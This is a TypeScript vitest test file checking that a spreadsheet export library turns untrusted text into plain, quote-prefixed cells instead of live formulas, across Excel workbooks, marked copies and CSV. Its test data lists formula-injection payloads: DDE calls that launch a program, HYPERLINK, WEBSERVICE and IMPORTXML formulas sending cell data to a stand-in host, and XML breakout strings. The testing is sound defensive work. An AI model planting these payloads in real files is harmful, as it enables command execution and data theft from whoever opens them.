import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { markWorkbook } from '~/excel/mark-workbook.server'
import { code, link, type TableSheet, text, type WorkbookSpec } from '~/excel/sheet-spec'
import { writeCsv } from '~/excel/write-csv.server'
import { exceljsWorkbook } from '~/excel/writing/exceljs-workbook.server'
import { cleanText } from '~/excel/writing/limits'
import { inspectWorkbook } from '../../support/excel/inspect-workbook'
import { createdAt } from '../../support/excel/sample-workbook'
import { bytesOf, streamed } from '../../support/excel/written'

const attacks = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://kwaad.example?lek="&A1;"klik")',
  '=WEBSERVICE("http://kwaad.example")',
  '=IMPORTXML("http://kwaad.example";"//a")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-12,50',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '=1+1";"=2+2',
  '"=1+1',
  '</t></is></c><c r="A9"><f>1+1</f></c>',
  ']]><f>1+1</f>',
  "';=1+1",
]

const sheet = (): TableSheet<string> => ({
  kind: 'table',
  name: 'Aanval',
  columns: [
    text('Tekst', (value) => value),
    code('Code', (value) => value),
    link('Link', (value) => ({ text: value, url: `https://leidraad.example/?q=${encodeURIComponent(value)}` })),
    link('Eigen adres', (value) => ({ text: value, url: value })),
  ],
  rows: attacks,
})
const spec = (): WorkbookSpec => ({
  title: attacks[0]!,
  createdAt,
  sheets: [
    sheet(),
    {
      kind: 'facts',
      name: '=1+1',
      title: '=1+1',
      facts: attacks.map((value) => ({ label: value, value: { kind: 'text', value } })),
    },
  ],
})

/** Characters for which a program may read the text as a formula once someone edits the cell. */
const dangerous = /^[=+\-@\t\r\n＝]/

describe('a stranger’s text never becomes a formula', () => {
  test.each([
    ['streamed', () => streamed(spec())],
    ['ExcelJS', async () => (await exceljsWorkbook(spec())).bytes],
  ])('in a workbook, %s', async (_, write) => {
    for (const seen of await inspectWorkbook(await write())) {
      for (const [address, cell] of seen.cells) {
        expect([address, cell.formula, cell.type]).toEqual([address, null, cell.type === 'empty' ? 'empty' : 'text'])
        expect([address, cell.value, cell.style.quotePrefix]).toEqual([address, cell.value, dangerous.test(cell.value)])
      }
      if (seen.name !== 'Aanval') continue
      expect(attacks.map((__, i) => seen.cells.get(`A${i + 2}`)?.value)).toEqual(attacks.map(cleanText))
      expect(Object.keys(seen.links).every((address) => address.startsWith('C'))).toBe(true)
    }
  })

  test('in a marked copy', async () => {
    const rows = attacks.map((value, i) => ({
      row: i + 1,
      hidden: false,
      cells: [{ column: 1, value: { kind: 'text' as const, text: value }, formula: true }],
    }))
    const problems = attacks.map((message, i) => ({
      sheet: 'Blad1',
      row: i + 1,
      column: 1,
      severity: 'error' as const,
      message,
    }))
    const { bytes } = await bytesOf((out) =>
      markWorkbook(
        {
          title: 'x',
          createdAt,
          sheets: [{ name: 'Blad1', state: 'visible', headerRow: 1, rows: () => rows }],
          problems,
        },
        out,
      ),
    )
    const [seen] = await inspectWorkbook(bytes)
    for (const [i, value] of attacks.entries()) {
      const cell = seen!.cells.get(`A${i + 1}`)!
      expect([cell.value, cell.formula, cell.style.quotePrefix]).toEqual([
        cleanText(value),
        null,
        dangerous.test(cell.value),
      ])
    }
  })

  test('in CSV', async () => {
    const { bytes } = await bytesOf((out) => writeCsv(sheet(), out))
    const records: string[][] = parse(bytes, { delimiter: ';', bom: true })
    expect(records).toHaveLength(attacks.length + 1)
    for (const field of records.slice(1).flat()) expect(field).not.toMatch(dangerous)
    expect(records.slice(1).map((r) => r[0]!.replace(/^'(?=[=+\-@\t\n＝])/, ''))).toEqual(attacks.map(cleanText))
  })
})
